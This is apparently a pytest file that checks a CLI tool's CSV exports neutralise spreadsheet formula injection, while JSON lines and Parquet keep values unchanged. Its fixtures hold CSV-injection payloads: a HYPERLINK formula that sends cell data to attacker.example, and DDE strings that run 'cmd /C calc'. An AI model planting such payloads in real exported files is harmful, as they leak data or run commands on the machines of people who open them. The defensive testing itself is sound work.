"""CSV written by the project holds no spreadsheet formula: a call recorded (by `receipts ingest`, the
live capture's translation) with a User-Agent, a model name and a request id that a spreadsheet would run
is exported; read back with Python's csv module, each such cell starts with `'`, and numbers are still
numbers. JSON lines and Parquet keep the values exactly as recorded."""
import csv
import io
import json

import duckdb
import pytest

from support.proc import receipts_cli

# what a spreadsheet takes for a formula: =, +, -, @, tab, carriage return first (OWASP, "CSV Injection")
UA = '=HYPERLINK("https://attacker.example/?d="&A1,"click")'
MODEL = "@SUM(1+1)*cmd|' /C calc'!A0"
REQUEST_ID = "+1+cmd|' /C calc'!A0"
FIELDS = {"app": UA, "app_name": UA, "model": MODEL, "client_request_id": REQUEST_ID}
OTHERS = ["-2+3", "\t=1+1", "\r=1+1"]  # (a tab or a carriage return first, then a formula)


def _har(path, entries):
    def entry(ua, model, request_id, n):
        body = json.dumps({"model": model, "messages": [{"role": "user", "content": "hi"}]})
        answer = json.dumps({"id": f"chatcmpl-{n}", "model": model, "choices": [],
                             "usage": {"prompt_tokens": 5, "completion_tokens": 2, "total_tokens": 7}})
        return {"startedDateTime": f"2026-11-24T10:00:0{n}.000Z", "time": 12,
                "request": {"method": "POST", "url": "https://api.example.com/v1/chat/completions",
                            "httpVersion": "HTTP/1.1", "headers": [
                                {"name": "User-Agent", "value": ua}, {"name": "X-Request-Id", "value": request_id},
                                {"name": "Content-Type", "value": "application/json"}],
                            "postData": {"mimeType": "application/json", "text": body}},
                "response": {"status": 200, "statusText": "OK", "httpVersion": "HTTP/1.1",
                             "headers": [{"name": "Content-Type", "value": "application/json"}],
                             "content": {"mimeType": "application/json", "text": answer}}}
    path.write_text(json.dumps({"log": {"version": "1.2", "entries": [entry(*e, n) for n, e in enumerate(entries)]}}))
    return path


@pytest.fixture(scope="module")
def data(tmp_path_factory):
    root = tmp_path_factory.mktemp("formulas")
    har = _har(root / "calls.har", [(UA, MODEL, REQUEST_ID)] + [(v, v, v) for v in OTHERS])
    out = receipts_cli("ingest", str(har), data=root / "data")
    assert out.returncode == 0 and "recorded 4 new calls" in out.stdout, out.stdout + out.stderr
    return root / "data"


def _csv_rows(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_exports_neutralise_every_formula_and_keep_numbers(data, tmp_path):
    for view in ("calls", "receipts"):
        out = tmp_path / f"{view}.csv"
        assert receipts_cli("export", "--format", "csv", "--view", view, "--out", str(out), data=data).returncode == 0
        rows = _csv_rows(out.read_bytes().decode())  # (read_text would turn a quoted \r into \n)
        assert len(rows) == 4
        for row in rows:
            for name, cell in row.items():
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (view, name, cell)
        first = next(r for r in rows if r["model"] == "'" + MODEL)
        for name, value in FIELDS.items():
            if name in first:
                assert first[name] == "'" + value, (view, name)
        assert sorted(r["model"] for r in rows) == sorted("'" + v for v in [MODEL] + OTHERS)
        if view == "calls":
            assert {(r["status"], r["total_tokens"], r["prompt_tokens"]) for r in rows} == {("200", "7", "5")}
    piped = receipts_cli("export", "--format", "csv", "--view", "calls", data=data)
    assert "'" + UA in {r["app"] for r in _csv_rows(piped.stdout)}


def test_receipts_sql_csv_neutralises_text_and_keeps_numbers(data):
    out = receipts_cli("sql", "--csv", "SELECT app, model, -5 AS negative, 1.5 AS x, '-5' AS text FROM calls "
                       "WHERE client_request_id = '+1+cmd|'' /C calc''!A0'", data=data)
    assert out.returncode == 0, out.stderr
    rows = _csv_rows(out.stdout)
    assert rows == [{"app": "'" + UA, "model": "'" + MODEL, "negative": "-5", "x": "1.5", "text": "'-5"}]


def test_json_lines_and_parquet_keep_the_values_as_recorded(data, tmp_path):
    # (a path may hold what looks like a query parameter, or a quote: it is the user's text, kept as is)
    jsonl, parquet = tmp_path / "calls $since.jsonl", tmp_path / "it's $x.parquet"
    for fmt, out in (("jsonl", jsonl), ("parquet", parquet)):
        assert receipts_cli("export", "--format", fmt, "--view", "calls", "--since", "3650d", "--out", str(out),
                            data=data).returncode == 0
    lines = [json.loads(line) for line in jsonl.read_text().splitlines()]
    with duckdb.connect() as con:
        from_parquet = con.execute("SELECT app, model, client_request_id FROM read_parquet(?)", [str(parquet)]).fetchall()
    for got in ([(x["app"], x["model"], x["client_request_id"]) for x in lines], from_parquet):
        assert sorted(got) == sorted([(UA, MODEL, REQUEST_ID)] + [(v, v, v) for v in OTHERS])
